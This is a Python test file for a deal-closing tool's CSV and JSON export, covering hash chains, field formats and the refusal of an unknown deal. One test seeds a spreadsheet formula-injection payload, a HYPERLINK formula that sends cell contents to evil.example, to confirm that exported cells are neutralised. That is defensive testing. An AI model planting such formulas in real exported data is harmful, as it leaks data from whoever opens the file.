"""`closing export`: every event of the record with all its fields and hashes, as CSV (read back
with the `csv` module, safe to open in a spreadsheet) and as JSON."""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

from closing.domain.errors import ExitCode
from closing.domain.export import EXPORT_FIELDS
from closing.views.export import neutralise
from tests.helpers import Cli
from tests.test_report import MONDAY, closing_day, verify_heads


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_of_the_readme_closing_day(
    cli: Cli, seed_path: Path, tmp_path: Path
) -> None:
    """Eleven events and the deal file's load, each with every field: money as exact strings,
    times ISO 8601 with the deal's offset, and the stored hashes, each chain ending at the head
    `closing verify` prints. The file starts with a byte-order mark for spreadsheets."""
    closing_day(cli, seed_path)
    out = tmp_path / "record.csv"
    result = cli("export", "-o", str(out), now=MONDAY)
    assert result.code == 0, result.err
    assert result.out == (f"Wrote 22 records of neotherapeutics-2002-06-07 to {out} (CSV).\n")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = read_csv(raw.decode("utf-8-sig"))
    assert tuple(rows[0]) == EXPORT_FIELDS
    events = [row for row in rows if row["record"] == "event"]
    assert len(events) == 12
    wire = next(
        r
        for r in events
        if r["party"] == "bnc-bach" and r["kind"] == "mark" and r["step"] == "wired"
    )
    assert {
        k: wire[k]
        for k in ("occurred_at", "rehearsal_at", "evidence_kind", "evidence", "amount", "actor")
    } == {
        "occurred_at": "2002-06-07T17:10:00-07:00",
        "rehearsal_at": "2002-06-07T17:20:00-07:00",  # the rehearsal clock's (CLOSING_NOW)
        "evidence_kind": "reference",
        "evidence": "FED 20020607B1Q8021C000388",
        "amount": "930000.00",
        "actor": "alice",
    }
    assert wire["party_name"] == "BNC Bach International, Ltd." and wire["host"]
    assert not wire["recorded_at"].startswith("2002")  # the machine's clock, never CLOSING_NOW
    reversal = next(r for r in events if r["kind"] == "reverse")
    assert (reversal["party"], reversal["step"], reversal["note"]) == (
        "stonestreet",
        "wired",
        "funds sent back at Stonestreet's request",
    )
    assert reversal["amount"] == ""
    heads = verify_heads(cli)
    del heads["digest"]
    for party, head in heads.items():  # the record of facts (9 entries) among them
        chain = [
            r for r in rows if r["party"] == party.lstrip("@") and r["record"] != "deal_revision"
        ]
        assert [int(r["seq"]) for r in chain] == list(range(1, len(chain) + 1))
        assert chain[0]["prev_hash"] == "0" * 64
        assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(chain))
        assert chain[-1]["hash"] == head
    (revision,) = [row for row in rows if row["record"] == "deal_revision"]
    assert (revision["kind"], revision["note"], revision["evidence_kind"]) == (
        "deal_file_loaded",
        "loaded 2 purchasers",
        "sha256",
    )
    assert revision["occurred_at"] == "2002-06-07T07:00:00-07:00"


def test_the_json_export_is_the_same_record(cli: Cli, seed_path: Path) -> None:
    """`--format json` to stdout: the same rows, money as strings, nulls as null."""
    closing_day(cli, seed_path)
    result = cli("export", "--format", "json", now=MONDAY)
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert (data["deal"], data["time_zone"], data["exported_at"]) == (
        "neotherapeutics-2002-06-07",
        "America/Los_Angeles",
        "2002-06-10T10:20:00-07:00",
    )
    records = data["records"]
    assert len(records) == 22 and set(records[0]) == set(EXPORT_FIELDS)
    amounts = [r["amount"] for r in records if r["amount"] is not None]
    assert amounts == ["450000.00", "930000.00"]
    csv_rows = read_csv(cli("export", now=MONDAY).out)
    assert [r["hash"] for r in csv_rows] == [r["hash"] or "" for r in records]


def test_formulas_are_neutralised(cli: Cli, seed_path: Path) -> None:
    """A purchaser named `=HYPERLINK(...)` and notes starting with +, -, @ open in a spreadsheet
    as text: the cell starts with an apostrophe, and every cell is quoted; the csv module reads
    them back as written (apostrophe and all)."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    seed_path.write_text(
        seed_path.read_text().replace(
            "name: BNC Bach International, Ltd.", f"name: '{formula.replace(chr(39), chr(39) * 2)}'"
        )
    )
    assert cli("init", str(seed_path), now="2002-06-07T07:00:00-07:00").code == 0
    cli("mark", "company", "Prospectus", now="2002-06-07T07:30:00-07:00")
    notes = {"signed": "+1 555 0100 called", "wired": "-2+3", "warrant_faxed": "@SUM(A1:A9)"}
    for step, note in notes.items():
        done = cli("waive", "bnc", step, "--reason", note, now="2002-06-07T08:10:00-07:00")
        assert done.code == 0, done.err
    text = cli("export", now="2002-06-07T09:00:00-07:00").out
    rows = read_csv(text)
    names = {row["party_name"] for row in rows if row["party"] == "bnc-bach"}
    assert names == {"'" + formula}
    waived = [row["note"] for row in rows if row["kind"] == "waive"]
    assert waived == ["'" + note for note in notes.values()]
    for line in text.splitlines()[1:]:
        assert line.startswith('"') and line.endswith('"')
    assert [neutralise(v) for v in ("-7", "+1.5", "@x", "\t=1", None, 3)] == [
        "-7",
        "+1.5",
        "'@x",
        "'\t=1",
        "",
        "3",
    ]


def test_the_export_refuses_an_unknown_deal(cli: Cli, seed_path: Path) -> None:
    """One line, exit 4."""
    cli("init", str(seed_path), now="2002-06-07T07:00:00-07:00")
    result = cli("export", "nosuch")
    assert result.code == ExitCode.NOT_FOUND
    assert result.err.startswith("Error: no deal 'nosuch'") and result.err.count("\n") == 1
